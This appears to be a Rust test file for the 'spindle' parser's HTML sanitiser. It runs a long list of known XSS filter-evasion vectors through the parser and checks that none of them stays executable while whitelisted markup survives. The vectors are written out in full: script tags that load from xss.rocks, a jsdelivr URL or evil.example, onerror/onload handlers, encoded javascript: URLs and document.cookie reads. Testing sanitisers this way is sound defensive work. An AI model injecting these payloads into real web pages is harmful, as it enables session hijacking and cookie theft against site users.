//! Well-known XSS filter-evasion vectors (after the OWASP XSS Filter Evasion
//! Cheat Sheet) inside `<content>`, beside whitelisted markup: nothing
//! executable may survive in `payload.html` or in the content deltas, and
//! the whitelisted markup must survive byte for byte, at every chunking.

use spindle::event::{Event, Level};
use spindle::scan::decode_entities;
use spindle::{CodeMarkup, FilterLimits, Parser, ParserOptions, Registry};

const VECTORS: &[&str] = &[
    r#"<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>"#,
    r#"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"#,
    r#"<IMG SRC="javascript:alert('XSS');">"#,
    r#"<IMG SRC=javascript:alert('XSS')>"#,
    r#"<IMG SRC=JaVaScRiPt:alert('XSS')>"#,
    r#"<IMG SRC=javascript:alert(&quot;XSS&quot;)>"#,
    r#"<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>"#,
    r#"<a onmouseover="alert(document.cookie)">xxs link</a>"#,
    r#"<a onmouseover=alert(document.cookie)>xxs link</a>"#,
    r#"<IMG """><SCRIPT>alert("XSS")</SCRIPT>">"#,
    r#"<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"#,
    r#"<IMG SRC=# onmouseover="alert('xxs')">"#,
    r#"<IMG SRC= onmouseover="alert('xxs')">"#,
    r#"<IMG onmouseover="alert('xxs')">"#,
    r#"<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>"#,
    r#"<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">"#,
    r#"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"#,
    r#"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>"#,
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    r#"<IMG SRC="jav&#x09;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0A;ascript:alert('XSS');">"#,
    r#"<IMG SRC="jav&#x0D;ascript:alert('XSS');">"#,
    r#"<IMG SRC=" &#14;  javascript:alert('XSS');">"#,
    r#"<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>"#,
    r#"<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<<SCRIPT>alert("XSS");//\<</SCRIPT>"#,
    r#"<SCRIPT SRC=http://xss.rocks/xss.js?< B >"#,
    r#"<SCRIPT SRC=//xss.rocks/.j>"#,
    r#"<IMG SRC="javascript:alert('XSS')""#,
    r#"<iframe src=http://xss.rocks/scriptlet.html <"#,
    r#"</TITLE><SCRIPT>alert("XSS");</SCRIPT>"#,
    r#"<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">"#,
    r#"<BODY BACKGROUND="javascript:alert('XSS')">"#,
    r#"<IMG DYNSRC="javascript:alert('XSS')">"#,
    r#"<IMG LOWSRC="javascript:alert('XSS')">"#,
    r#"<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>"#,
    r#"<IMG SRC='vbscript:msgbox("XSS")'>"#,
    r#"<svg/onload=alert('XSS')>"#,
    r#"<BODY ONLOAD=alert('XSS')>"#,
    r#"<BGSOUND SRC="javascript:alert('XSS');">"#,
    r#"<BR SIZE="&{alert('XSS')}">"#,
    r#"<LINK REL="stylesheet" HREF="javascript:alert('XSS');">"#,
    r#"<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">"#,
    r#"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"#,
    r#"<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">"#,
    r#"<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>"#,
    r#"<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>"#,
    r#"<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">"#,
    r#"exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>"#,
    r#"<STYLE TYPE="text/javascript">alert('XSS');</STYLE>"#,
    r#"<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>"#,
    r#"<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>"#,
    r#"<XSS STYLE="xss:expression(alert('XSS'))">"#,
    r#"<XSS STYLE="behavior: url(xss.htc);">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">"#,
    r#"<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">"#,
    r#"<IFRAME SRC="javascript:alert('XSS');"></IFRAME>"#,
    r#"<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>"#,
    r#"<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>"#,
    r#"<TABLE BACKGROUND="javascript:alert('XSS')">"#,
    r#"<TABLE><TD BACKGROUND="javascript:alert('XSS')">"#,
    r#"<DIV STYLE="background-image: url(javascript:alert('XSS'))">"#,
    r#"<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">"#,
    r#"<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">"#,
    r#"<DIV STYLE="width: expression(alert('XSS'));">"#,
    r#"<BASE HREF="javascript:alert('XSS');//">"#,
    r#"<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>"#,
    r#"<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>"#,
    r#"<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>"#,
    r#"<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>"#,
    r#"<a href="jav&#x09;ascript:alert(1)">click</a>"#,
    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
    r#"<form action="javascript:alert(1)"><input type=submit></form>"#,
    r#"<form><button formaction=javascript:alert(1)>X</button></form>"#,
    r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    r#"<template><script>alert(1)</script></template>"#,
    r#"<video><source onerror="alert(1)">"#,
    r#"<audio src=x onerror=alert(1)>"#,
    r#"<marquee onstart=alert(1)>"#,
    r#"<object data="javascript:alert(1)">"#,
    r#"<isindex type=image src=1 onerror=alert(1)>"#,
    r#"<b onmouseover=alert(1)>bold-ish</b>"#,
    r#"<span style="color: red; background: url(javascript:alert(1))">x</span>"#,
    r#"<span style="x:expression(alert(1))">x</span>"#,
    r#"<!--<img src=x onerror=alert(1)>-->"#,
    r#"<![CDATA[<script>alert(1)</script>]]>"#,
    r#"<IMG SRC=x onerror=alert&lpar;1&rpar;>"#,
    r#"<svg><animate onbegin=alert(1) attributeName=x dur=1s>"#,
    r#"<xss onafterscriptexecute=alert(1)><script>1</script>"#,
    r#"javascript:alert(1)"#,
    r#"&#106;avascript&#58;alert(1)"#,
    r#"< script >alert(1)< / script >"#,
    r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#,
    r#"<div onclick="alert(1)">click</div>"#,
    r#"<p style="background:url(javascript:alert(1))">p</p>"#,
    r#"<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPQ&AC8&AD4"#,
    r#"<base href="http://evil.example/">"#,
    r#"<link rel=import href="http://evil.example">"#,
    r#"<img src="x" onerror  =  "alert(1)">"#,
    r#"<IMG SRC="jav&#x09;ascript:alert('XSS');" onload&#61;alert(1)>"#,
    r#"<a href="javascript&colon;alert(1)">c</a>"#,
    r#"<svg><script xlink:href="data:,alert(1)"></script></svg>"#,
    r#"<style>*{x:expression(alert(1))}</style>"#,
    r#"<ScRiPt>alert(1)</sCrIpT>"#,
    r#"<script>alert(1)"#,
    r#"<img/src=x/onerror=alert(1)>"#,
    r#"<body/onload=alert(1)>"#,
    r#"<a href=javascript:alert(1)>x"#,
    r#"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>"#,
];

const BEFORE: &str = "Before <b>bold</b> and <span style=\"color: red\">red</span>. ";
const AFTER: &str = " After <span style=\"color: red\">red</span> and <b>bold</b>.";

/// Elements that must never exist in the filtered HTML.
const FORBIDDEN: &[&str] = &[
    "script", "iframe", "img", "svg", "object", "embed", "style", "link", "meta", "form", "base", "frame", "frameset",
    "applet", "body", "input", "button", "video", "audio", "source", "math", "template", "a", "div", "p", "table",
    "td", "bgsound", "isindex", "marquee", "xss", "title", "noscript",
];

/// The content element's `payload.html` and joined deltas, parsing
/// `input` in chunks of `chunk` bytes.
fn content(input: &str, chunk: usize) -> (String, String, Vec<Event>) {
    content_with(ParserOptions::default(), input, chunk)
}

/// [`content`] with a parser of these options.
fn content_with(options: ParserOptions, input: &str, chunk: usize) -> (String, String, Vec<Event>) {
    let mut parser = Parser::with_options(std::sync::Arc::new(Registry::filament()), options);
    let mut events = Vec::new();
    for c in input.as_bytes().chunks(chunk.max(1)) {
        events.extend(parser.feed(c));
    }
    events.extend(parser.finish());
    let mut deltas = String::new();
    let mut html = String::new();
    for e in &events {
        match e {
            Event::Delta(d) if &*d.tag == "content" => deltas.push_str(&d.text),
            Event::Element(el) if &*el.tag == "content" => {
                html.push_str(el.payload.get("html").and_then(|h| h.as_str()).unwrap_or_default());
            }
            _ => {}
        }
    }
    (html, deltas, events)
}

/// Every way the output could still be executable; returns the problems.
fn problems(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let lower = html.to_ascii_lowercase();
    let decoded = decode_entities(html.as_bytes()).to_ascii_lowercase();
    let squeezed: String = decoded.chars().filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control()).collect();
    for view in [&lower, &decoded, &squeezed] {
        for bad in ["javascript:", "vbscript:", "expression(", "url("] {
            if view.contains(bad) {
                found.push(format!("contains {bad:?}"));
            }
        }
    }
    // Every `<` must start a whitelisted tag.
    for (i, _) in lower.match_indices('<') {
        let rest = &lower[i + 1..];
        let rest = rest.strip_prefix('/').unwrap_or(rest);
        let name: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
        if !["b", "strong", "i", "em", "u", "s", "br", "span", "ruby", "rt", "rp"].contains(&name.as_str()) {
            found.push(format!("markup <{name} at {i}"));
        }
        if FORBIDDEN.contains(&name.as_str()) {
            found.push(format!("forbidden element <{name}"));
        }
    }
    // No `on*=` anywhere (a tag attribute or text that could become one).
    for view in [&lower, &decoded] {
        let b = view.as_bytes();
        for (i, _) in view.match_indices("on") {
            let mut j = i + 2;
            while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_' || b[j] == b'-') {
                j += 1;
            }
            let word = j > i + 2;
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if word && b.get(j) == Some(&b'=') {
                found.push(format!("on*= at {i}: {:?}", &view[i..j + 1]));
            }
        }
    }
    found
}

#[test]
fn vectors_are_neutralised_and_whitelisted_markup_survives() {
    assert!(VECTORS.len() >= 60, "{} vectors", VECTORS.len());
    // The README states the count.
    let readme = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap_or_default();
    let claim = format!("{} filter-evasion vectors", VECTORS.len());
    assert!(readme.contains(&claim), "README.md should say \"{claim}\"");
    let mut failures = Vec::new();
    for (n, vector) in VECTORS.iter().enumerate() {
        let input = format!("<content>{BEFORE}{vector}{AFTER}</content>");
        let (whole, whole_deltas, events) = content(&input, usize::MAX);
        let bad = problems(&whole);
        if !bad.is_empty() {
            failures.push(format!("#{n} {vector}\n  html: {whole}\n  {}", bad.join("; ")));
        }
        if !whole.starts_with(BEFORE) {
            failures.push(format!(
                "#{n} {vector}\n  html: {whole}\n  whitelisted markup before the vector did not survive"
            ));
        }
        if !whole.contains("<span style=\"color: red\">red</span> and <b>bold</b>.") {
            failures
                .push(format!("#{n} {vector}\n  html: {whole}\n  whitelisted markup after the vector did not survive"));
        }
        if whole != whole_deltas {
            failures.push(format!("#{n} {vector}\n  payload.html != joined deltas\n  {whole}\n  {whole_deltas}"));
        }
        for chunk in [1, 7] {
            let (html, deltas, _) = content(&input, chunk);
            if html != whole || deltas != whole {
                failures.push(format!("#{n} {vector}\n  chunk {chunk} differs:\n  {html}\n  {whole}"));
            }
        }
        // Something was reported for every vector that had markup.
        if vector.contains('<') && !vector.starts_with("&#") {
            let reported = events
                .iter()
                .any(|e| matches!(e, Event::Diagnostic(d) if d.code == "html_filtered" && d.level == Level::Warning))
                || events.iter().any(|e| matches!(e, Event::Comment(_)));
            if !reported {
                failures.push(format!("#{n} {vector}\n  no html_filtered diagnostic"));
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn many_vectors_in_one_content_element() {
    let input = format!("<content>{BEFORE}{}{AFTER}</content>", VECTORS.join("\n"));
    for chunk in [usize::MAX, 1, 7] {
        let (html, deltas, _) = content(&input, chunk);
        assert_eq!(html, deltas, "chunk {chunk}");
        assert!(problems(&html).is_empty(), "chunk {chunk}: {:?}\n{html}", problems(&html));
        assert!(html.starts_with(BEFORE), "{html}");
    }
}

#[test]
fn whitelisted_markup_is_kept_byte_for_byte() {
    let text = "<b>b</b><strong>s</strong><i>i</i><em>e</em><u>u</u><s>s</s>a<br>b<br/>c<br />\
                <span style=\"color: red\">r</span><span style='font-weight:bold; color:#f00'>x</span>\
                <ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby><B>upper</B>";
    let (html, _, events) = content(&format!("<content>{text}</content>"), 3);
    assert_eq!(html, text);
    assert!(!events.iter().any(|e| matches!(e, Event::Diagnostic(d) if d.code == "html_filtered")));
}

#[test]
fn attributes_are_stripped_and_unsafe_style_reduced() {
    let cases: &[(&str, &str)] = &[
        ("<b onclick=\"x()\" class=\"c\">t</b>", "<b>t</b>"),
        ("<span style=\"color: red\" onclick=\"x\">r</span>", "<span style=\"color: red\">r</span>"),
        ("<span style=\"color: red; position: fixed\">r</span>", "<span style=\"color: red\">r</span>"),
        ("<span style=\"position: fixed\">r</span>", "<span>r</span>"),
        ("<span id=x>r</span>", "<span>r</span>"),
        ("<p>para</p><div>div</div>", "paradiv"),
        ("<a href=\"https://x\">link</a>", "link"),
        ("Hi <user>, <char> waves.</char>", "Hi &lt;user>, &lt;char> waves.&lt;/char>"),
        ("a<script/>x<b>y</b>", "ax<b>y</b>"),
        ("a<svg/>x<b>y</b>", "ax<b>y</b>"),
        ("a<svg/>x<b>y</b></svg>z", "ax<b>y</b>z"),
        ("a</p>b</div> c", "a&#8203;b&#8203; c"),
        ("a<script>x</script>b<style>c</style>d", "abd"),
        ("<my-widget data=1>w</my-widget>", "&lt;my-widget data=1>w&lt;/my-widget>"),
    ];
    for (input, want) in cases {
        let (html, _, _) = content(&format!("<content>{input}</content>"), 1);
        assert_eq!(&html, want, "{input}");
    }
}

#[test]
fn spindle_parse_jsonl_shows_filtered_html() {
    let dir = std::env::temp_dir().join(format!("spindle-xss-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let file = dir.join("xss.txt");
    let input = format!("<content>{BEFORE}{}{AFTER}</content>", VECTORS[..20].join(" "));
    std::fs::write(&file, &input).expect("write input");
    for chunk in ["1", "7"] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_spindle"))
            .args(["parse", "--format", "jsonl", "--chunk-size", chunk])
            .arg(&file)
            .output()
            .expect("run spindle");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let stdout = String::from_utf8_lossy(&out.stdout);
        let html: Vec<String> = stdout
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["type"] == "element" && v["tag"] == "content")
            .filter_map(|v| v["payload"]["html"].as_str().map(str::to_string))
            .collect();
        assert_eq!(html.len(), 1, "{stdout}");
        assert!(problems(&html[0]).is_empty(), "{:?}", problems(&html[0]));
        assert!(html[0].starts_with(BEFORE) && html[0].ends_with(AFTER), "{}", html[0]);
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// Text that an HTML tokenizer would read as a tag of an HTML element, but
/// that no writer of markup means as one (`if a<b {}`, `a<b and c>d`, a tag
/// across a blank line, one never ended), is shown as text: before, its
/// "attributes" were removed, and the text with them. Tags that are meant
/// (bare attributes that mean something, values) are filtered as before.
#[test]
fn text_that_reads_like_a_tag_is_shown_not_dropped() {
    let cases: &[(&str, &str)] = &[
        ("if a<b {}\n```\n\nand <b>bold</b>", "if a&lt;b {}\n```\n\nand <b>bold</b>"),
        ("when a<b and c>d, stop", "when a&lt;b and c>d, stop"),
        ("p<q or q>p", "p&lt;q or q>p"),
        ("x <i\n\nsee> y", "x &lt;i\n\nsee> y"),
        ("a <b title=\"t\" (x)>b", "a &lt;b title=\"t\" (x)>b"),
        ("cut <span class", "cut &lt;span class"),
        ("<p hidden>o</p> <span data-x>r</span>", "o <span>r</span>"),
        ("<b class=\"c\" id=x>t</b>", "<b>t</b>"),
        ("<B TITLE='a'>t</B>", "<B>t</B>"),
    ];
    filters_to(cases);
    // What an attacker writes bare is shown as text, and stays inert.
    for input in ["<img src onerror=alert(1)>", "<b \"x\" onclick=alert(1)>t</b>", "<a href=x y onclick=alert(1)>"] {
        let (html, _, events) = content(&format!("<content>{input}</content>"), usize::MAX);
        assert!(problems(&html).is_empty(), "{input}: {html}: {:?}", problems(&html));
        let report = events.iter().find_map(|e| match e {
            Event::Diagnostic(d) if d.code == "html_filtered" => Some(d.message.clone()),
            _ => None,
        });
        assert!(report.is_some_and(|m| m.contains("tags shown as text")), "{input}: {html}");
    }
}

/// Markdown shows code verbatim, `&lt;` included: inside a fenced code
/// block or a code span, a `<` that is inert as HTML (`a < b`, `Vec<u8>`)
/// stays as written; every other `<` there is filtered as anywhere else,
/// and outside code nothing changes. The output is its own fixed point.
#[test]
fn inert_angle_brackets_in_markdown_code_stay_as_written() {
    let cases: &[(&str, &str)] = &[
        (
            "Use `Vec<u8>` when `a < b`, not a < b.\n\n```rust\nlet v: Vec<u8> = f(|a| a < b && c > d);\nfn longest<'a>(w: &[String]) {}\n```\nthen a < b",
            "Use `Vec<u8>` when `a < b`, not a &lt; b.\n\n```rust\nlet v: Vec<u8> = f(|a| a < b && c > d);\nfn longest<'a>(w: &[String]) {}\n```\nthen a &lt; b",
        ),
        (
            "```html\n<script>alert(1)</script><b>x</b> <img src=x onerror=alert(1)> <x-y> <u8 a=1>\n```",
            "```html\n&lt;script>alert(1)&lt;/script><b>x</b> &lt;img src=x onerror=alert(1)> &lt;x-y> &lt;u8 a=1>\n```",
        ),
        ("`<!-- c -->x` and `<user>` and <user>", "`<!-- c -->x` and `<user>` and &lt;user>"),
        ("~~~\n<<3\n~~~", "~~~\n<<3\n~~~"),
    ];
    filters_to(cases);
}

/// Markdown code is code to show, not markup to filter: inside a fenced
/// block or a code span, tags are kept as written where they could do
/// nothing but show themselves were they read as HTML (JSX, HTML examples,
/// generics), and the safety net's zero-width breaks of `url(` and
/// `on<word>=` are not written into code (where Markdown would show them
/// as `&#8203;`). Tags that act stay escaped, `javascript:` stays broken,
/// and outside code nothing changes.
#[test]
fn markup_in_markdown_code_is_shown_as_written() {
    let cases: &[(&str, &str)] = &[
        (
            "```jsx\nreturn <div className=\"app\"><Header title=\"Hi\" /><img src=\"x\" onerror=\"alert(1)\"/></div>;\n```",
            "```jsx\nreturn <div className=\"app\"><Header title=\"Hi\" />&lt;img src=\"x\" onerror=\"alert(1)\"/></div>;\n```",
        ),
        (
            "```html\n<ul><li>One</li></ul><a href=\"javascript:alert(1)\">x</a> <p hidden>h</p>\n```",
            "```html\n<ul><li>One</li></ul>&lt;a href=\"javascript&#8203;:alert(1)\">x</a> &lt;p hidden>h</p>\n```",
        ),
        (
            "```css\n.a { background: url(x.png); }\n```\n```python\nresponse = requests.get(url, json=data)\n```",
            "```css\n.a { background: url(x.png); }\n```\n```python\nresponse = requests.get(url, json=data)\n```",
        ),
        (
            "Use `HashMap<String, Vec<u8>>`, `Option<A>`, `<T: Clone>` and `[x](javascript:alert(1))`; outside: <div>a</div> conn = db <b>b</b>",
            "Use `HashMap<String, Vec<u8>>`, `Option<A>`, `<T: Clone>` and `[x](javascript&#8203;:alert(1))`; outside: a conn &#8203;= db <b>b</b>",
        ),
    ];
    filters_to(cases);
}

/// Each input, as the content of an element, filters to its output at
/// several chunk sizes, in the payload and the deltas alike, and through
/// `sanitize`; the output is its own fixed point.
fn filters_to(cases: &[(&str, &str)]) {
    for (input, want) in cases {
        for chunk in [usize::MAX, 1, 3, 5] {
            let (html, deltas, _) = content(&format!("<content>{input}</content>"), chunk);
            assert_eq!(&html, want, "{input} at chunk {chunk}");
            assert_eq!(html, deltas, "{input} at chunk {chunk}");
        }
        let once = spindle::payload::html::sanitize(input).html;
        assert_eq!(&once, want, "{input}");
        assert_eq!(spindle::payload::html::sanitize(&once).html, once, "{input}: not a fixed point");
    }
}

/// The HTML filter's limits are the parser's to set: past the held-tag and
/// code-span limits the content degrades (a long tag is markup, a long
/// code span keeps `&lt;`) and the `html_filtered` diagnostic says so.
#[test]
fn the_html_filter_limits_are_parser_options() {
    let input = "<content>when a<b c=\"a long quoted value\" and d>e; `Vec<u8> and more words`</content>";
    let report = |events: &[Event]| {
        events
            .iter()
            .find_map(|e| match e {
                Event::Diagnostic(d) if d.code == "html_filtered" => Some(d.message.clone()),
                _ => None,
            })
            .unwrap_or_default()
    };
    let (html, _, events) = content(input, 3);
    assert_eq!(html, "when a&lt;b c=\"a long quoted value\" and d>e; `Vec<u8> and more words`");
    assert!(!report(&events).contains("limit"), "{}", report(&events));
    let options = ParserOptions {
        html: FilterLimits { max_held_tag: 8, max_code_span: 10, ..FilterLimits::default() },
        ..ParserOptions::default()
    };
    for chunk in [usize::MAX, 1, 3] {
        let (html, deltas, events) = content_with(options, input, chunk);
        assert_eq!(html, "when a<b>e; `Vec&lt;u8> and more words`", "chunk {chunk}");
        assert_eq!(html, deltas);
        let report = report(&events);
        assert!(report.contains("1 start tag(s) past the held-tag limit"), "{report}");
        assert!(report.contains("1 code span(s) past the hold limit"), "{report}");
    }
}

/// `CodeMarkup::AsWritten`: a front end that renders content with a
/// CommonMark renderer gets code exactly as the model wrote it (acting
/// tags, `class`, `javascript:` and all); outside code the filter works as
/// ever, and the output is still its own fixed point.
#[test]
fn code_can_be_shown_exactly_as_written() {
    let input = "<content>Load it like this:\n\n```html\n<div class=\"app\" onclick=\"go()\"><img src=x></div>\n<script src=\"/app.js\"></script>\n<a href=\"javascript:void(0)\">x</a>\n```\n\nor `<script src=\"/app.js\">`, never <script>alert(1)</script><img src=x onerror=alert(1)>.</content>";
    let options = ParserOptions {
        html: FilterLimits { code_markup: CodeMarkup::AsWritten, ..FilterLimits::default() },
        ..ParserOptions::default()
    };
    let want = "Load it like this:\n\n```html\n<div class=\"app\" onclick=\"go()\"><img src=x></div>\n<script src=\"/app.js\"></script>\n<a href=\"javascript:void(0)\">x</a>\n```\n\nor `<script src=\"/app.js\">`, never .";
    for chunk in [usize::MAX, 1, 3, 5] {
        let (html, deltas, _) = content_with(options, input, chunk);
        assert_eq!(html, want, "chunk {chunk}");
        assert_eq!(deltas, want, "chunk {chunk}");
    }
    // The default keeps what could act escaped.
    let (html, _, _) = content(input, 1);
    assert!(html.contains("&lt;script src=\"/app.js\">&lt;/script>"), "{html}");
    // A fixed point: filtering the output again changes nothing.
    let again = content_with(options, &format!("<content>{want}</content>"), 2).0;
    assert_eq!(again, want);
}
